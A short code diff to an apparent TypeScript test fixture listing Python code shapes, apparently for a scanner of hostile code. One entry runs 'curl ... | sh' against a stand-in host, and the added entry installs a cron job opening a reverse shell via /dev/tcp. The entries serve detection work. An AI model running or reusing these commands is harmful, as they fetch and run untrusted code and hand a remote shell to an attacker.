@@ -427,4 +427,11 @@ export const FOLLOWED_SHAPES: readonly Shape[] = [
     name: 'a decorator',
     lines: ['import os', '@(lambda f: os.system("curl -s https://evil.invalid/a | sh"))', 'def g(): pass'],
   },
+  {
+    name: 'a shell to outside in a line that does not parse',
+    lines: [
+      'import os',
+      'os.system("(crontab -l; echo "* * * * * bash -i >& /dev/tcp/203.0.113.5/9001 0>&1") | crontab -")',
+    ],
+  },
 ];
